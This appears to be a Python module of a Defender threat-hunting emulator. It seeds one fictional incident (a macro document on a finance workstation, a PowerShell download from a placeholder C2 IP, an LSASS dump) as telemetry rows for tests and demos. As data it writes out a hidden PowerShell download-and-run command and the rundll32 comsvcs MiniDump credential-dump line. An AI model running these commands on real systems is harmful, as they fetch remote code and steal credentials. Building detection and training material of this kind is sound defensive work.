"""The seeded incident: one coherent attack that every part of the emulator tells the same way.

A user on a finance workstation that is not in the random pool opens a macro document; Word starts
``cmd.exe``, which starts PowerShell; PowerShell downloads ``upd.exe`` from 203.0.113.77 and runs it; the
implant connects back to 203.0.113.77:443 and dumps LSASS with ``rundll32 comsvcs.dll, MiniDump``. Defender
raises one High alert about it, in an incident of its own.

Its hunting rows (DeviceLogonEvents, IdentityLogonEvents, DeviceProcessEvents, DeviceNetworkEvents,
DeviceFileEvents, AlertInfo, AlertEvidence) come first in any window that covers them
(:func:`emulator.tables.generate`); the world (:mod:`emulator.world`) serves the same device, user,
file, IP, alert and incident from the entity, alert and incident APIs.

Identifiers are fixed. Times are fixed once per process: the user logs on at the full hour two hours
before the hour the module was imported in and opens the document 25 minutes later, so everything lies
1-3 hours back and before the last full hour (where the default hunting window ends), and an emulator
started again in the same hour tells it at the same times. Find it with :data:`INCIDENT` (also ``Emulator().incident``).
"""

from __future__ import annotations

import hashlib
import time
from dataclasses import dataclass
from typing import Any

from .entities import Account, Image, images

SECOND = 10_000_000  # ticks (100 ns)
MINUTE = 60 * SECOND
HOUR = 60 * MINUTE

_DEVICE_NAME = "wks-fin-07.contoso.local"
_USER = Account("contoso", "nadia.rahman", "S-1-5-21-1604223591-2790142381-3196011425-4127",
                "nadia.rahman@contoso.com", "5f0f8c1e-7a3b-4d6e-9c21-0b8e4f6a2d17", "Medium",
                "TokenElevationTypeLimited")
_DOCUMENT = r"C:\Users\nadia.rahman\Downloads\Rechnung_2291.docm"
_C2_IP = "203.0.113.77"


@dataclass(frozen=True)
class IncidentProcess:
    """One process of the incident's tree. ``parent_pid`` is the process that started it; times are ticks."""

    name: str
    folder_path: str
    pid: int
    parent_pid: int
    unique_id: int
    created: int
    command_line: str
    integrity: str
    elevation: str
    image: Image | None  # None for the pre-existing ancestors the pools do not know (userinit.exe)


@dataclass(frozen=True)
class SeededIncident:
    """What tests, the demo and the triage flow need to find the seeded incident, and the story behind it.

    ``processes`` is the tree the attack started, root first (WINWORD.EXE ... rundll32.exe), each started by
    the one before it; ``ancestors`` are the user's session processes above it (userinit.exe, explorer.exe).
    ``connections`` are (process name, remote IP, remote port, ticks). Times are ticks since the Unix epoch.
    """

    alert_id: str
    incident_id: int
    device_id: str
    device_name: str
    device_ip: str
    user: str
    user_domain: str
    user_upn: str
    user_sid: str
    user_object_id: str
    file_name: str
    file_path: str
    sha1: str
    sha256: str
    md5: str
    remote_ip: str
    remote_port: int
    title: str
    severity: str
    logon_time: int
    start: int
    alert_time: int
    file_created: int
    ancestors: tuple[IncidentProcess, ...]
    processes: tuple[IncidentProcess, ...]
    connections: tuple[tuple[str, str, int, int], ...]
    account: Account

    @property
    def process_names(self) -> tuple[str, ...]:
        """File names of the process tree, root first."""
        return tuple(p.name for p in self.processes)

    @property
    def user_account(self) -> str:
        """``domain\\name``, as MDE writes a user id."""
        return f"{self.user_domain}\\{self.user}"

    def process(self, name: str) -> IncidentProcess:
        """The process of the tree with that file name (case-insensitive)."""
        return next(p for p in self.processes if p.name.lower() == name.lower())


def _image(name: str) -> Image:
    return next(i for i in images() if i.FileName == name)


def build_incident(now_ticks: int) -> SeededIncident:
    """The incident, placed relative to ``now_ticks`` (see the module docstring for where)."""
    logon = now_ticks // HOUR * HOUR - 2 * HOUR
    start = logon + 25 * MINUTE
    device_id = hashlib.sha1(_DEVICE_NAME.encode()).hexdigest()
    upd = _image("upd.exe")
    user = _USER

    def proc(name: str, pid: int, parent: int, unique: int, created: int, cmd: str, high: bool = False,
             folder: str | None = None) -> IncidentProcess:
        image = next((i for i in images() if i.FileName == name), None)
        return IncidentProcess(name, folder or (image.FolderPath if image else ""), pid, parent, unique, created,
                               cmd, "High" if high else "Medium",
                               "TokenElevationTypeFull" if high else "TokenElevationTypeLimited", image)

    ancestors = (
        proc("userinit.exe", 5388, 700, 281474976710701, logon + 3 * SECOND, r"C:\Windows\system32\userinit.exe",
             folder=r"C:\Windows\System32\userinit.exe"),
        proc("explorer.exe", 6112, 5388, 281474976710702, logon + 5 * SECOND, r"C:\Windows\Explorer.EXE"),
    )
    download = (f"Invoke-WebRequest http://{_C2_IP}/upd.exe -OutFile C:\\Users\\Public\\upd.exe; "
                "Start-Process C:\\Users\\Public\\upd.exe -ArgumentList '-connect " + _C2_IP + ":443'")
    processes = (
        proc("WINWORD.EXE", 7424, 6112, 281474976710811, start,
             f'"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "{_DOCUMENT}" /o ""'),
        proc("cmd.exe", 3188, 7424, 281474976710812, start + 72 * SECOND,
             f'cmd.exe /c powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "{download}"'),
        proc("powershell.exe", 5020, 3188, 281474976710813, start + 74 * SECOND,
             f'powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "{download}"'),
        proc("upd.exe", 4412, 5020, 281474976710814, start + 105 * SECOND, upd.command_lines[0], high=True),
        proc("rundll32.exe", 2964, 4412, 281474976710815, start + 160 * SECOND,
             r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full", high=True),
    )
    connections = (
        ("powershell.exe", _C2_IP, 80, start + 95 * SECOND),
        ("upd.exe", _C2_IP, 443, start + 110 * SECOND),
        ("upd.exe", _C2_IP, 443, start + 175 * SECOND),
    )
    return SeededIncident(
        alert_id="da638712345678901234_1618033988", incident_id=4242,
        device_id=device_id, device_name=_DEVICE_NAME, device_ip="10.41.7.23",
        user=user.AccountName, user_domain=user.AccountDomain or "", user_upn=user.AccountUpn or "",
        user_sid=user.AccountSid, user_object_id=user.AccountObjectId or "",
        file_name=upd.FileName, file_path=upd.FolderPath, sha1=upd.SHA1, sha256=upd.SHA256, md5=upd.MD5,
        remote_ip=_C2_IP, remote_port=443,
        title="Unsigned executable 'upd.exe' connected to a rare IP", severity="High",
        logon_time=logon, start=start, alert_time=start + 4 * MINUTE, file_created=start + 98 * SECOND,
        ancestors=ancestors, processes=processes, connections=connections, account=user)


#: The seeded incident of this process (every emulator serves this one).
INCIDENT = build_incident(time.time_ns() // 100)


# ---------------------------------------------------------------- hunting rows
#
# Rows as {column: value}; DateTime values are ticks (the table module encodes them). Columns a table lacks
# are left out when it is encoded; columns missing here are null.

_TECHNIQUES = '["Application Layer Protocol (T1071)","Ingress Tool Transfer (T1105)","LSASS Memory (T1003.001)"]'
_CATEGORY = "CommandAndControl"


def _account(prefix: str, inc: SeededIncident) -> dict[str, Any]:
    return {f"{prefix}AccountDomain": inc.user_domain, f"{prefix}AccountName": inc.user,
            f"{prefix}AccountSid": inc.user_sid, f"{prefix}AccountUpn": inc.user_upn,
            f"{prefix}AccountObjectId": inc.user_object_id}


def _file_cells(prefix: str, image: Image | None, name: str, folder: str) -> dict[str, Any]:
    version = ("CompanyName", "ProductName", "ProductVersion", "InternalFileName", "OriginalFileName",
               "FileDescription")
    vp = "ProcessVersionInfo" if prefix == "" else f"{prefix}VersionInfo"
    cells: dict[str, Any] = {f"{prefix}FileName": name, f"{prefix}FolderPath": folder}
    if image is not None:
        cells.update({f"{prefix}SHA1": image.SHA1, f"{prefix}SHA256": image.SHA256, f"{prefix}MD5": image.MD5,
                      f"{prefix}FileSize": image.FileSize})
        cells.update({vp + v: getattr(image, v) for v in version})
    return cells


def _initiating(inc: SeededIncident, proc: IncidentProcess, parent: IncidentProcess) -> dict[str, Any]:
    """The InitiatingProcess* columns for an event ``proc`` caused, ``parent`` being what started ``proc``."""
    image = proc.image
    return {
        **_account("InitiatingProcess", inc), **_file_cells("InitiatingProcess", image, proc.name, proc.folder_path),
        "InitiatingProcessLogonId": 4718233, "InitiatingProcessIntegrityLevel": proc.integrity,
        "InitiatingProcessTokenElevation": proc.elevation, "InitiatingProcessId": proc.pid,
        "InitiatingProcessCommandLine": proc.command_line, "InitiatingProcessCreationTime": proc.created,
        "InitiatingProcessParentId": parent.pid, "InitiatingProcessParentFileName": parent.name,
        "InitiatingProcessParentCreationTime": parent.created,
        "InitiatingProcessSignerType": image.SignerType if image else "OsVendor",
        "InitiatingProcessSignatureStatus": image.SignatureStatus if image else "Valid",
        "InitiatingProcessSessionId": 1, "IsInitiatingProcessRemoteSession": False,
        "InitiatingProcessUniqueId": proc.unique_id, "AppGuardContainerId": "",
    }


def _device(inc: SeededIncident) -> dict[str, Any]:
    return {"DeviceId": inc.device_id, "DeviceName": inc.device_name}


def _process_rows(inc: SeededIncident) -> list[tuple[int, dict[str, Any]]]:
    chain = inc.ancestors + inc.processes
    rows = []
    for k, proc in enumerate(inc.processes, start=len(inc.ancestors)):
        parent, grandparent = chain[k - 1], chain[k - 2]
        image = proc.image
        rows.append((proc.created, {
            "Timestamp": proc.created, **_device(inc), "ActionType": "ProcessCreated",
            **_file_cells("", image, proc.name, proc.folder_path),
            "ProcessId": proc.pid, "ProcessCommandLine": proc.command_line,
            "ProcessIntegrityLevel": proc.integrity, "ProcessTokenElevation": proc.elevation,
            "ProcessCreationTime": proc.created, **_account("", inc), "LogonId": 4718233,
            **_initiating(inc, parent, grandparent), "ReportId": 8100 + k,
            "ProcessSessionId": 1, "IsProcessRemoteSession": False, "CreatedProcessSessionId": 1,
            "ProcessUniqueId": proc.unique_id,
        }))
    return rows


def _network_rows(inc: SeededIncident) -> list[tuple[int, dict[str, Any]]]:
    rows = []
    for k, (name, ip, port, when) in enumerate(inc.connections):
        proc = inc.process(name)
        parent = next(p for p in inc.ancestors + inc.processes if p.pid == proc.parent_pid)
        rows.append((when, {
            "Timestamp": when, **_device(inc), "ActionType": "ConnectionSuccess", "RemoteIP": ip,
            "RemotePort": port, "LocalIP": inc.device_ip, "LocalPort": 50311 + k, "Protocol": "Tcp",
            "LocalIPType": "Private", "RemoteIPType": "Public", **_initiating(inc, proc, parent),
            "ReportId": 8200 + k,
        }))
    return rows


def _file_rows(inc: SeededIncident) -> list[tuple[int, dict[str, Any]]]:
    writer = inc.process("powershell.exe")
    parent = next(p for p in inc.processes if p.pid == writer.parent_pid)
    return [(inc.file_created, {
        "Timestamp": inc.file_created, **_device(inc), "ActionType": "FileCreated",
        "FileName": inc.file_name, "FolderPath": inc.file_path, "SHA1": inc.sha1, "SHA256": inc.sha256,
        "MD5": inc.md5, "FileOriginUrl": f"http://{inc.remote_ip}/upd.exe", "FileOriginIP": inc.remote_ip,
        "FileSize": _image(inc.file_name).FileSize, **_initiating(inc, writer, parent),
        "RequestProtocol": "Local", "IsAzureInfoProtectionApplied": False, "ReportId": 8300,
    })]


def _logon_rows(inc: SeededIncident) -> list[tuple[int, dict[str, Any]]]:
    lsass = IncidentProcess("lsass.exe", r"C:\Windows\System32\lsass.exe", 700, 596, 281474976710660,
                            inc.logon_time - 9 * HOUR, r"C:\Windows\system32\lsass.exe", "System",
                            "TokenElevationTypeDefault", None)
    wininit = IncidentProcess("wininit.exe", r"C:\Windows\System32\wininit.exe", 596, 488, 281474976710650,
                              lsass.created - SECOND, "wininit.exe", "System", "TokenElevationTypeDefault", None)
    initiating = _initiating(inc, lsass, wininit)
    initiating.update({"InitiatingProcessAccountDomain": "nt authority", "InitiatingProcessAccountName": "system",
                       "InitiatingProcessAccountSid": "S-1-5-18", "InitiatingProcessAccountUpn": None,
                       "InitiatingProcessAccountObjectId": None, "InitiatingProcessSessionId": 0})
    return [(inc.logon_time, {
        "Timestamp": inc.logon_time, **_device(inc), "ActionType": "LogonSuccess", "LogonType": "Interactive",
        "AccountDomain": inc.user_domain, "AccountName": inc.user, "AccountSid": inc.user_sid,
        "Protocol": "Kerberos", "IsLocalAdmin": False, "LogonId": 4718233, **initiating, "ReportId": 8400,
    })]


def _identity_rows(inc: SeededIncident) -> list[tuple[int, dict[str, Any]]]:
    when = inc.logon_time  # the domain controller validates the credentials as the user logs on
    return [(when, {
        "Timestamp": when, "ActionType": "LogonSuccess", "Application": "Active Directory",
        "LogonType": "Credentials validation", "Protocol": "Kerberos", "AccountName": inc.user,
        "AccountDomain": inc.user_domain, "AccountUpn": inc.user_upn, "AccountSid": inc.user_sid,
        "AccountObjectId": inc.user_object_id, "AccountDisplayName": "Nadia Rahman",
        "DeviceName": inc.device_name, "DeviceType": "Workstation", "OSPlatform": "Windows 11",
        "IPAddress": inc.device_ip, "Port": 50288, "DestinationDeviceName": "dc01.contoso.local",
        "DestinationIPAddress": "10.0.0.10", "DestinationPort": 88, "ReportId": 8500,
    })]


def _alert_head(inc: SeededIncident) -> dict[str, Any]:
    return {"Timestamp": inc.alert_time, "AlertId": inc.alert_id, "Title": inc.title,
            "ServiceSource": "Microsoft Defender for Endpoint", "DetectionSource": "EDR",
            "AttackTechniques": _TECHNIQUES}


def _alert_info_rows(inc: SeededIncident) -> list[tuple[int, dict[str, Any]]]:
    return [(inc.alert_time, {**_alert_head(inc), "Category": _CATEGORY, "Severity": inc.severity})]


def _alert_evidence_rows(inc: SeededIncident) -> list[tuple[int, dict[str, Any]]]:
    head = {**_alert_head(inc), "Categories": f'["{_CATEGORY}"]', **_device(inc), "LocalIP": inc.device_ip}
    upd = _image(inc.file_name)
    items: list[dict[str, Any]] = [
        {"EntityType": "Machine", "EvidenceRole": "Impacted"},
        {"EntityType": "User", "EvidenceRole": "Impacted", "AccountName": inc.user, "AccountDomain": inc.user_domain,
         "AccountSid": inc.user_sid, "AccountObjectId": inc.user_object_id, "AccountUpn": inc.user_upn},
    ]
    for proc in inc.processes:
        image = proc.image
        items.append({"EntityType": "Process", "EvidenceRole": "Related", "FileName": proc.name,
                      "FolderPath": proc.folder_path, "SHA1": image.SHA1 if image else None,
                      "SHA256": image.SHA256 if image else None, "FileSize": image.FileSize if image else None,
                      "ProcessCommandLine": proc.command_line})
    items += [
        {"EntityType": "File", "EvidenceRole": "Related", "FileName": inc.file_name, "FolderPath": inc.file_path,
         "SHA1": inc.sha1, "SHA256": inc.sha256, "FileSize": upd.FileSize},
        {"EntityType": "Ip", "EvidenceRole": "Related", "EvidenceDirection": "Destination", "RemoteIP": inc.remote_ip},
    ]
    return [(inc.alert_time, {**head, **item}) for item in items]


_ROWS = {
    "DeviceProcessEvents": _process_rows,
    "DeviceNetworkEvents": _network_rows,
    "DeviceFileEvents": _file_rows,
    "DeviceLogonEvents": _logon_rows,
    "IdentityLogonEvents": _identity_rows,
    "AlertInfo": _alert_info_rows,
    "AlertEvidence": _alert_evidence_rows,
}


def hunting_rows(table: str, incident: SeededIncident = INCIDENT) -> list[tuple[int, dict[str, Any]]]:
    """The incident's rows of one hunting table as (Timestamp ticks, {column: value}), in time order."""
    build = _ROWS.get(table)
    return sorted(build(incident), key=lambda r: r[0]) if build else []
